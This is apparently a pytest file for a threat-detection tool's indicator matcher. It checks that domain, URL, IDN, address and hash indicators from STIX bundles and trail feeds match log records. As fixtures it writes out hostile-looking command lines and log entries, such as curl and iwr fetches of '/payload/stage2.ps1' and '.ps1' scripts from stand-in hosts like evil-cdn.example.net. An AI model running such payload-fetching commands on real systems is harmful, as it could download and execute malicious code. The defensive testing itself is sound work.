"""Indicators match whatever form the log or the feed writes a value in (URL, IDNA, address
forms), at any feed size; indicators that cannot match are reported, never counted as running."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import orjson
import pytest

from maat.cli.main import run
from maat.detect.iocs import IocIndex, load_stix, load_trails, newer_version
from telemetry_kit import SHARED, needs

TIDRONE = SHARED / "iocs-maltrail-tidrone" / "trails" / "static" / "malware" / "apt_tidrone.txt"
STAMP = "2026-11-25T10:00:00.000Z"
SYSMON = {"@timestamp": STAMP, "RecordNumber": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
          "SourceName": "Microsoft-Windows-Sysmon", "Hostname": "ENG-WS7", "Image": "C:\\x\\w.exe"}  # fmt: skip


def stix(pattern: str, **extra: Any) -> dict[str, Any]:
    return {"type": "indicator", "spec_version": "2.1", "pattern_type": "stix",
            "id": "indicator--11111111-1111-4111-8111-111111111111", "created": "2020-01-01T00:00:00Z",
            "modified": "2020-01-01T00:00:00Z", "valid_from": "2020-01-01T00:00:00Z",
            "pattern": pattern, **extra}  # fmt: skip


def stix_index(pattern: str) -> IocIndex:
    return IocIndex(load_stix({"type": "bundle", "objects": [stix(pattern)]}, "b.json"))


def detect(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
           records: list[dict[str, Any]], iocs: Path) -> list[dict[str, Any]]:  # fmt: skip
    monkeypatch.setenv("MAAT_DATA_DIR", str(tmp_path / "data"))
    events = tmp_path / "events.json"
    events.write_bytes(b"\n".join(orjson.dumps(r) for r in records))
    capsys.readouterr()
    assert run(["detect", str(events), "--iocs", str(iocs), "--format", "jsonl"]) == 0
    out = capsys.readouterr().out.splitlines()
    return [json.loads(line) for line in out if line.startswith("{")]


# --- feed size ------------------------------------------------------------------------------


def test_a_feed_of_50000_domains_loads_and_matches_only_its_names() -> None:
    text = "".join(f"host{i}.bad{i % 997}.example.com\n" for i in range(50_000))
    index = IocIndex(load_trails(text, "big.txt"))
    assert index.count == 50_000 and not index.problems
    assert index.match({"dns.question.name": "host49999.bad149.example.com"})
    assert index.match({"dns.question.name": "cdn.host7.bad7.example.com"})
    assert index.match({"process.command_line": "curl https://host7.bad7.example.com/x"})
    assert index.match({"process.command_line": "ping cdn.host7.bad7.example.com."})
    for look_alike in ("bad7.example.com", "xhost7.bad7.example.com", "host7-bad7.example.com",
                       "host7.bad7.example.com.attacker.org", "host50000.bad7.example.com"):  # fmt: skip
        assert not index.match({"dns.question.name": look_alike}), look_alike
        assert not index.match({"process.command_line": f"curl http://{look_alike}/"}), look_alike


def test_a_hostile_script_of_long_dotted_tokens_is_scanned_in_linear_time() -> None:
    index = IocIndex(load_trails("evil.example\n", "t.txt"))
    script = ("a." * 200 + "b ") * 600 + "x." * 300 + "evil.example"
    [hit] = index.match({"winlog.event_data.ScriptBlockText": script})
    assert hit.field == "winlog.event_data.ScriptBlockText"


def test_a_feed_of_3000_domains_through_the_cli_raises_the_alert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    feed = tmp_path / "big.txt"
    feed.write_text("".join(f"host{i}.bad{i % 997}.example.com\n" for i in range(3000)))
    query = {**SYSMON, "EventID": 22, "QueryName": "host7.bad7.example.com"}
    [alert] = detect(tmp_path, monkeypatch, capsys, [query], feed)
    assert alert["ioc.kind"] == "domain_tree"


# --- URLs -----------------------------------------------------------------------------------

ZEEK_HTTP = {"ts": 1700000005.25, "uid": "C8HQ3hBJwnCPZqyLQ1", "id.orig_h": "10.0.0.12",
             "id.orig_p": 50312, "id.resp_h": "198.51.100.7", "id.resp_p": 80, "trans_depth": 1,
             "method": "GET", "host": "evil-cdn.example.net", "uri": "/payload/stage2.ps1?id=42",
             "version": "1.1", "user_agent": "curl/8", "request_body_len": 0,
             "response_body_len": 5120, "status_code": 200, "status_msg": "OK"}  # fmt: skip
NGINX = {"time_local": "14/Nov/2023:23:13:20 +0100", "remote_addr": "203.0.113.50",
         "request": "GET /payload/stage2.ps1?id=42 HTTP/1.1", "status": "200",
         "body_bytes_sent": "153", "http_user_agent": "curl/8", "host": "evil-cdn.example.net"}  # fmt: skip


@pytest.mark.parametrize("record", [ZEEK_HTTP, NGINX], ids=["zeek-http", "nginx"])
@pytest.mark.parametrize("indicator", ["trail", "stix"])
def test_url_indicators_match_http_logs_that_log_only_the_request_target(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    record: dict[str, Any], indicator: str,
) -> None:  # fmt: skip
    if indicator == "trail":
        feed = tmp_path / "urls.txt"
        feed.write_text("evil-cdn.example.net/payload/stage2.ps1\n")
    else:
        feed = tmp_path / "b.json"
        url = "http://evil-cdn.example.net/payload/stage2.ps1?id=42"
        feed.write_bytes(orjson.dumps(stix(f"[url:value = '{url}']")))
    other = {**record, "host": "cdn.example.org"}  # the same path on another host is no hit
    alerts = detect(tmp_path, monkeypatch, capsys, [record, other], feed)
    assert [a["source.line"] for a in alerts] == [1]
    assert alerts[0]["ioc.kind"] == ("url_prefix" if indicator == "trail" else "url")


@pytest.mark.parametrize("seen", ["http://EVIL.example.com/a", "http://evil.example.com:80/a",
                                  "http://user:pw@evil.example.com/a", "HTTP://evil.example.com./a",
                                  "http://evil.example.com/a#top"])  # fmt: skip
def test_url_indicators_ignore_host_case_default_port_and_userinfo(seen: str) -> None:
    assert stix_index("[url:value = 'http://evil.example.com/a']").match({"url.original": seen})
    assert IocIndex(load_trails("evil.example.com/a\n", "t.txt")).match({"url.full": seen})


def test_url_indicators_still_tell_ports_hosts_and_path_case_apart() -> None:
    index = stix_index("[url:value = 'http://evil.example.com/Payload']")
    for other in ("http://evil.example.com:8080/Payload", "http://evil.example.com/payload",
                  "http://evil.example.com.attacker.org/Payload", "/Payload"):  # fmt: skip
        assert not index.match({"url.original": other}), other


def test_url_pattern_matches_a_request_target_with_its_host() -> None:
    index = stix_index(
        "[url:value = 'https://evil.example.com/a' AND network-traffic:dst_port = 443]"
    )
    event = {"url.original": "/a", "url.domain": "Evil.Example.com", "destination.port": 443}
    assert index.match(event)


# --- names and addresses --------------------------------------------------------------------


def test_a_unicode_domain_indicator_matches_its_punycode_and_back() -> None:
    assert stix_index("[domain-name:value = 'Bücher.example']").match(
        {"dns.question.name": "xn--bcher-kva.example"}
    )
    assert stix_index("[domain-name:value = 'xn--bcher-kva.example']").match(
        {"url.domain": "bücher.example"}
    )
    trail = IocIndex(load_trails("bücher.example\n", "t.txt"))
    assert trail.match({"dns.question.name": "cdn.xn--bcher-kva.example"})
    assert trail.match({"process.command_line": "iwr https://BÜCHER.example/x"})
    assert not trail.match({"dns.question.name": "bucher.example"})


@pytest.mark.parametrize("name", ["उदाहरण.भारत", "উদাহরণ.ভারত", "ตัวอย่าง.ไทย"])
def test_an_idn_with_combining_marks_in_a_command_line_is_found(name: str) -> None:
    """Devanagari, Bengali and Thai names are full of combining marks, which \\w leaves out:
    the name must be looked up whole, as it is in dns.question.name."""
    index = stix_index(f"[domain-name:value = '{name}']")
    assert index.match({"dns.question.name": name})
    assert index.match({"process.command_line": f"curl https://{name}/a.ps1"})
    trail = IocIndex(load_trails(f"{name}\n", "t.txt"))  # a trail matches its subdomains
    assert trail.match({"process.command_line": f"ping cdn.{name}"})


def test_a_u_label_tail_in_a_command_line_is_not_a_name_of_its_own() -> None:
    assert stix_index("[domain-name:value = 'cher.example']").match(
        {"process.command_line": "ping bücher.example"}
    ) == []
    assert stix_index("[domain-name:value = 'bücher.example']").match(
        {"process.command_line": "ping bücher.example && ping cher.example"}
    )
    # An ASCII name next to non-ASCII text that is no part of it is still a name.
    assert stix_index("[domain-name:value = 'evil.example']").match(
        {"process.command_line": "écho «evil.example»"}
    )


def test_a_like_pattern_on_an_idn_matches_its_a_label_form() -> None:
    index = stix_index("[domain-name:value LIKE '%.Bücher.example']")
    assert index.match({"dns.question.name": "www.bücher.example"})
    assert index.match({"dns.question.name": "www.xn--bcher-kva.example"})
    assert not index.match({"dns.question.name": "www.bucher.example"})


@pytest.mark.parametrize("seen", ["http://evil.org/pay%6Coad", "http://evil.org/%70ayload",
                                  "http://evil.org/x/../payload", "http://evil.org/./payload",
                                  "http://evil.org/x/%2E%2E/payload"])  # fmt: skip
def test_url_normalisation_decodes_unreserved_escapes(seen: str) -> None:
    """RFC 3986 6.2.2: the client picks the encoding and the dot segments; the server sees
    /payload either way."""
    assert stix_index("[url:value = 'http://evil.org/payload']").match({"url.original": seen})
    assert IocIndex(load_trails("evil.org/payload\n", "t.txt")).match({"url.full": seen})
    # Escapes of reserved characters keep their meaning: %2F is not a path separator.
    assert not stix_index("[url:value = 'http://evil.org/a/b']").match(
        {"url.original": "http://evil.org/a%2fb"}
    )
    assert stix_index("[url:value = 'http://evil.org/a%2fb']").match(
        {"url.original": "http://evil.org/a%2Fb"}
    )


@pytest.mark.parametrize("seen", ["::ffff:203.0.113.9", "0:0:0:0:0:ffff:203.0.113.9",
                                  "::FFFF:CB00:7109", "::ffff:cb00:7109"])  # fmt: skip
def test_ipv4_mapped_forms_match_the_ipv4_indicator_on_every_path(seen: str) -> None:
    assert IocIndex(load_trails("203.0.113.9\n", "t.txt")).match({"destination.ip": seen})
    simple = stix_index("[ipv4-addr:value = '203.0.113.9']")
    assert simple.match({"source.ip": seen})
    pattern = stix_index("[ipv4-addr:value IN ('203.0.113.9', '203.0.113.10')]")
    assert pattern.match({"source.ip": seen})


def test_pattern_addresses_are_compared_as_addresses_not_text() -> None:
    index = stix_index("[network-traffic:dst_ref.value = '2001:0DB8:0000:0000:0000:0000:0000:0001'"
                       " AND network-traffic:dst_port = 443]")  # fmt: skip
    assert index.match({"destination.ip": "2001:db8::1", "destination.port": 443})
    assert not index.match({"destination.ip": "2001:db8::2", "destination.port": 443})
    network = stix_index("[ipv4-addr:value = '198.51.100.0/24' AND network-traffic:dst_port = 22]")
    assert network.match({"destination.ip": "::ffff:198.51.100.7", "destination.port": 22})


def test_matches_regex_keeps_its_escapes_and_ignores_the_fields_case() -> None:
    index = stix_index("[domain-name:value MATCHES '^\\\\D+\\\\.EVIL\\\\.example$']")
    assert index.match({"dns.question.name": "abc.evil.example"})
    assert not index.match({"dns.question.name": "123.evil.example"})
    like = stix_index("[domain-name:value LIKE '%.EVIL.example']")
    assert like.match({"url.domain": "cdn.evil.example"})


@needs(TIDRONE)
def test_a_tidrone_c2_reached_through_a_cname_raises_the_alert(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    query = {**SYSMON, "EventID": 22, "QueryName": "innocent.example.org",
             "QueryResults": "type:  5 fghytr.com;::ffff:198.51.100.77;"}  # fmt: skip
    benign = {**query, "RecordNumber": 2,
              "QueryResults": "type:  5 github.map.fastly.net;::ffff:185.199.108.133;"}  # fmt: skip
    alerts = detect(tmp_path, monkeypatch, capsys, [query, benign], TIDRONE)
    assert [(a["source.line"], a["ioc.field"]) for a in alerts] == [(1, "dns.answers.data")]


# --- indicators that cannot match -----------------------------------------------------------


@pytest.mark.parametrize("algorithm", ["SSDEEP", "'SHA3-256'", "TLSH"])
def test_a_hash_algorithm_no_event_carries_is_reported_not_counted(algorithm: str) -> None:
    index = stix_index(f"[file:hashes.{algorithm} = 'abcdef0123']")
    assert index.count == 0
    [problem] = index.problems
    assert "hash algorithm" in problem.reason and "sha256" in problem.reason


def test_a_digest_of_the_wrong_length_is_reported_and_its_siblings_still_run() -> None:
    good = "ab" * 48
    index = stix_index(
        f"[file:hashes.'SHA-384' = 'abcdef0123' OR file:hashes.'SHA-384' = '{good}']"
    )
    [problem] = index.problems
    assert "96 hex digits" in problem.reason
    assert index.match({"process.hash.sha384": good.upper()})


def test_sha384_from_sysmon_hashes_matches(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    digest = "cd" * 48
    bundle = tmp_path / "b.json"
    bundle.write_bytes(orjson.dumps(stix(f"[file:hashes.'SHA-384' = '{digest}']")))
    started = {**SYSMON, "EventID": 1, "Hashes": f"SHA384={digest.upper()},MD5={'0' * 32}"}
    [alert] = detect(tmp_path, monkeypatch, capsys, [started], bundle)
    assert alert["ioc.kind"] == "sha384"


def test_an_unknown_path_in_a_nested_observation_is_reported() -> None:
    index = stix_index("([email-addr:value = 'a@evil.example'] OR [email-addr:value = 'b@x.example'])"
                       " OR [domain-name:value = 'evil.example']")  # fmt: skip
    [problem] = index.problems
    assert "email-addr:value" in problem.reason and index.count == 0


# --- versions -------------------------------------------------------------------------------


def test_a_revocation_with_fractional_seconds_wins_over_the_version_before() -> None:
    old = stix("[domain-name:value = 'evil.example']", modified="2020-01-01T10:00:00Z")
    revoked = {**old, "modified": "2020-01-01T10:00:00.500Z", "revoked": True}
    for objects in ([old, revoked], [revoked, old]):
        index = IocIndex(load_stix({"type": "bundle", "objects": objects}, "b.json"))
        assert not index.match({"dns.question.name": "evil.example"})
        assert [p.reason for p in index.problems] == ["revoked by its producer; not run"]


def test_newer_version_compares_times_not_text() -> None:
    assert newer_version(
        {"modified": "2020-01-01T10:00:00.5Z"}, {"modified": "2020-01-01T10:00:00Z"}
    )
    assert not newer_version({"modified": "2020-01-01T09:00:00Z"},
                             {"modified": "2020-01-01T10:00:00+00:00"})  # fmt: skip
    assert newer_version(
        {"modified": "2020-01-01T11:00:00+02:00"}, {"modified": "2020-01-01T08:00:00Z"}
    )
    assert not newer_version({"modified": "garbage"}, {"modified": "2020-01-01T10:00:00Z"})
    assert newer_version({"modified": "2020-01-01T10:00:00Z"}, {"modified": "garbage"})
